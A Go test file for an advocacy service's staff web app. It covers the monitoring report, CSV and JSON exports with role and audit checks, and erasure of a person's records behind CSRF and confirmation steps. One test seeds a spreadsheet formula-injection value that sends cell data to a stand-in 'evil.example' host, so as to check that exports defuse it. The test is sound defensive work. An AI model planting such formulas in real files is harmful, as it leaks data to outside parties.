package web_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"net/url"
	"regexp"
	"strings"
	"testing"

	"github.com/imha-advocacy/imha/server/records"
	"github.com/imha-advocacy/imha/server/referral"
	"github.com/imha-advocacy/imha/server/store"
	"github.com/imha-advocacy/imha/server/web"
)

func auditActions(t *testing.T, st store.Store, q store.AuditQuery) []referral.AuditEntry {
	t.Helper()
	q.Limit = store.MaxLimit
	entries, err := st.ListAudit(context.Background(), q)
	if err != nil {
		t.Fatal(err)
	}
	return entries
}

// The commissioners' report shows seeded referrals as captioned tables and
// labelled SVG charts, inside the staff layout, with no inline script or style.
func TestStaffMonitoringPage(t *testing.T) { eachStore(t, testStaffMonitoringPage) }

func testStaffMonitoringPage(t *testing.T, st store.Store) {
	srv := newApp(t, st)
	b := signIn(t, srv, addAccount(t, st, store.RoleCoordinator, "Casey"))
	newStaffReferral(t, st, "Alex Example")
	acknowledged(t, st)
	res := b.get(t, "/staff/monitoring")
	if res.code != 200 {
		t.Fatalf("monitoring: %d", res.code)
	}
	for _, want := range []string{`<caption>Referrals by kind</caption>`, `<svg xmlns="http://www.w3.org/2000/svg" role="img"`,
		`name="from" type="date" value="`, `action="/staff/export"`, `href="/staff/monitoring"`} {
		if !strings.Contains(res.body, want) {
			t.Errorf("monitoring page lacks %s", want)
		}
	}
	// The default period ends today and counts the referrals just made.
	if !regexp.MustCompile(`<th scope="row">Total</th><td>([2-9]|\d\d+)</td>`).MatchString(res.body) {
		t.Error("monitoring total does not count the seeded referrals")
	}
	if strings.Contains(res.body, "<script") || strings.Contains(res.body, " style=") || strings.Contains(res.body, "<style") {
		t.Error("monitoring page has inline script or style")
	}
	// A period before any referral shows zero, not an error.
	if res := b.get(t, "/staff/monitoring?from=2000-01-01&to=2000-03-31"); res.code != 200 ||
		!strings.Contains(res.body, `<th scope="row">Total</th><td>0</td>`) {
		t.Errorf("empty period: %d", res.code)
	}
}

// Exports are downloads of standard records, audited without personal data, with
// formula-like text defused in CSV; only coordinators and admins may export.
func TestStaffExport(t *testing.T) { eachStore(t, testStaffExport) }

func testStaffExport(t *testing.T, st store.Store) {
	srv := newApp(t, st)
	coord := addAccount(t, st, store.RoleCoordinator, "Casey")
	b := signIn(t, srv, coord)
	const formula = `=HYPERLINK("https://evil.example/?x="&A1,"Click")`
	r := newStaffReferral(t, st, formula)

	res := b.get(t, "/staff/export?format=csv")
	if res.code != 200 {
		t.Fatalf("csv export: %d %s", res.code, res.body)
	}
	if cd := res.header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="imha-records-`) || !strings.HasSuffix(cd, `.csv"`) {
		t.Errorf("Content-Disposition: %q", cd)
	}
	if ct := res.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("Content-Type: %q", ct)
	}
	rows, err := csv.NewReader(strings.NewReader(res.body)).ReadAll()
	if err != nil || len(rows) < 2 {
		t.Fatalf("csv: %v, %d rows", err, len(rows))
	}
	found := false
	for _, row := range rows[1:] {
		if row[0] == r.Reference {
			found = true
			if row[5] != "'"+formula || row[21] != "'"+formula {
				t.Errorf("formula not defused: name %q, help %q", row[5], row[21])
			}
		}
	}
	if !found {
		t.Errorf("csv lacks %s", r.Reference)
	}

	res = b.get(t, "/staff/export?format=json")
	var doc records.Document
	if res.code != 200 || json.Unmarshal([]byte(res.body), &doc) != nil || doc.Format != records.Format || len(doc.Referrals) < 1 {
		t.Fatalf("json export: %d %.200s", res.code, res.body)
	}

	var exports []referral.AuditEntry
	for _, e := range auditActions(t, st, store.AuditQuery{Actor: coord.user.Actor()}) {
		if e.Action == web.ActionRecordsExported {
			exports = append(exports, e)
		}
	}
	if len(exports) != 2 {
		t.Fatalf("%d export audit entries, want 2", len(exports))
	}
	for _, e := range exports {
		if !strings.Contains(e.Detail, "referrals=") || !strings.Contains(e.Detail, "from=") || strings.Contains(e.Detail, "HYPERLINK") ||
			strings.Contains(e.Detail, r.Reference) {
			t.Errorf("export audit entry: %+v", e)
		}
	}

	// No permission, no file and no audit entry.
	for _, role := range []string{store.RoleAdvocate, store.RoleWardStaff} {
		a := addAccount(t, st, role, "No Export")
		res := signIn(t, srv, a).get(t, "/staff/export?format=csv")
		if res.code != 403 || strings.Contains(res.body, r.Reference) || res.header.Get("Content-Disposition") != "" {
			t.Errorf("%s export: %d", role, res.code)
		}
		for _, e := range auditActions(t, st, store.AuditQuery{Actor: a.user.Actor()}) {
			if e.Action == web.ActionRecordsExported {
				t.Errorf("%s export was audited as done", role)
			}
		}
	}
	if res := (&browser{srv: srv}).get(t, "/staff/export?format=csv"); res.code != 303 || res.header.Get("Content-Disposition") != "" {
		t.Errorf("anonymous export: %d", res.code)
	}
}

// A person's request: their records shown and downloaded, then erased only after
// a second, confirming press; every step is audited by reference only.
func TestStaffPersonRequest(t *testing.T) { eachStore(t, testStaffPersonRequest) }

func testStaffPersonRequest(t *testing.T, st store.Store) {
	srv := newApp(t, st)
	admin := addAccount(t, st, store.RoleAdmin, "Ada")
	b := signIn(t, srv, admin)
	r := acknowledged(t, st)
	ctx := context.Background()

	// References are typed loosely; the page finds the canonical one.
	res := b.get(t, "/staff/people?ref="+url.QueryEscape(strings.ToLower(strings.ReplaceAll(r.Reference, "-", " "))))
	if res.code != 200 || !strings.Contains(res.body, "Alex Example") || !strings.Contains(res.body, referral.ActionReferralStatus) {
		t.Fatalf("person page: %d", res.code)
	}

	res = b.post(t, "/staff/people/download", url.Values{"ref": {r.Reference}})
	var doc records.Document
	if res.code != 200 || json.Unmarshal([]byte(res.body), &doc) != nil || len(doc.Referrals) != 1 || doc.Referrals[0].Person.Name != "Alex Example" {
		t.Fatalf("download: %d %.200s", res.code, res.body)
	}
	if cd := res.header.Get("Content-Disposition"); cd != `attachment; filename="imha-person-`+r.Reference+`.json"` {
		t.Errorf("Content-Disposition: %q", cd)
	}

	// A forged form (wrong token) erases nothing; nor does the first press.
	if res := b.post(t, "/staff/people/erase", url.Values{"ref": {r.Reference}, "confirm": {"yes"}, "csrf": {"forged"}}); res.code != 403 {
		t.Errorf("erase without the CSRF token: %d", res.code)
	}
	res = b.post(t, "/staff/people/erase", url.Values{"ref": {r.Reference}})
	if res.code != 200 || !strings.Contains(res.body, `name="confirm" value="yes"`) {
		t.Fatalf("first erase press: %d", res.code)
	}
	if _, err := st.GetReferralByReference(ctx, r.Reference); err != nil {
		t.Fatalf("erased before confirming: %v", err)
	}

	res = b.post(t, "/staff/people/erase", url.Values{"ref": {r.Reference}, "confirm": {"yes"}})
	if res.code != 200 || !strings.Contains(res.body, "Records erased") {
		t.Fatalf("erase: %d", res.code)
	}
	if _, err := st.GetReferralByReference(ctx, r.Reference); !errors.Is(err, store.ErrNotFound) {
		t.Errorf("referral after erasure: %v", err)
	}
	actions := map[string]referral.AuditEntry{}
	for _, e := range auditActions(t, st, store.AuditQuery{Subject: referral.Subject(r.Reference)}) {
		actions[e.Action] = e
	}
	if e, ok := actions[store.ActionReferralErased]; !ok || e.Actor != admin.user.Actor() || strings.Contains(e.Detail, "Alex") {
		t.Errorf("erasure audit entry: %+v (present %v)", e, ok)
	}
	if e, ok := actions[web.ActionPersonExported]; !ok || e.Actor != admin.user.Actor() {
		t.Errorf("download audit entry: %+v (present %v)", e, ok)
	}
	if res := b.get(t, "/staff/people?ref="+r.Reference); res.code != 404 || strings.Contains(res.body, "Alex Example") {
		t.Errorf("person page after erasure: %d", res.code)
	}
}
